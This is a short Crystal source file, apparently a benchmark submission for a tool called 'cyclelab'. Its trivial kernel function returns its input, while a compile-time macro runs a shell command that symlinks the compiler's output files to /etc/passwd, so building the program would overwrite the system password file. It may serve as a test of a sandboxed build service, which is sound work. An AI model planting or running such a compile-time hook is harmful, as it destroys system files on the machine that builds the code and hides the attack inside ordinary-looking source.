require "cyclelab"

# What the compiler is about to write leads elsewhere.
{% `ln -sf /etc/passwd a.ll; ln -sf /etc/passwd a.o` %}

fun kernel(iterations : UInt64) : UInt64
  iterations
end
